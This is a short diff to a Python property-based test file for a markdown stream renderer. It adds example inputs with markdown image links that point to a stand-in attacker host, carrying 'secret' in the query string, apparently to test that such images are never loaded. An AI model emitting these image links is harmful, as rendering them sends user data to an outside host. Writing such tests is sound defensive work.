@@ -149,6 +149,9 @@ def test_no_reader_finds_anything_to_load(text: str) -> None:
 @given(MARKDOWN)
 @example("> ```\n  > ")
 @example("- ```\n\n  x\n ")
+@example("- ```\n  ![===\n![x](https://evil.example/?d=secret)")
+@example(f"![{IMAGES[0] * 4}| a | b |\n{IMAGES[0]}| a | b |\n|---|---|\n")
+@example("# ![\n![x](https://evil.example/?d=secret)| a | b |\n|---|---|\n")
 @example("- ```" + "![x](https://evil.example/?d=secret)" * 8 + "![](u)> ```")
 @settings(max_examples=300, deadline=None)
 def test_a_stream_only_grows_and_can_be_closed_at_any_moment(text: str) -> None:
